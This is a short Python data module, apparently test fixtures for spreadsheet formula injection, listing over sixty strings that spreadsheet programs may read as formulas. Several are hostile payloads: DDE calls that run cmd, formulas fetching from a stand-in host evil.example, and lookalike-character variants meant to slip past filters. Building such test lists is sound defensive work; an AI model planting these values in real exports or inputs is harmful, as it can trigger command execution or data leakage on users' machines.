"""Texts, sixty and more, that some spreadsheet program takes for something else than text, or even executes."""

_CORES = ["=1+1", '=HYPERLINK("http://evil.example","点")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)"]
_LEADS = ["", " ", "\t", "\r", "\n", "'"]
FORMULAS = [
    *(lead + core for core in _CORES for lead in _LEADS),
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "　=1+1", "''=1+1", "'\t=1+1", "\"=1+1\"", "\",=1+1", "a\n=1+1",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=1+1;", "{=SUM(A1:A2)}", "http://evil.example/", "mailto:a@evil.example", "internal:Sheet1!A1", "_x003D_1+1",
    "_x000D_", "-2+3+cmd|' /C calc'!D2", "%0A-3+3+cmd", "1e308", "'",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x0b=1+1", "\u2060\u3000@SUM(1)", "﹦1+1", "﹣1+1", "﹫SUM(1)", "−1+1",
]  # fmt: skip
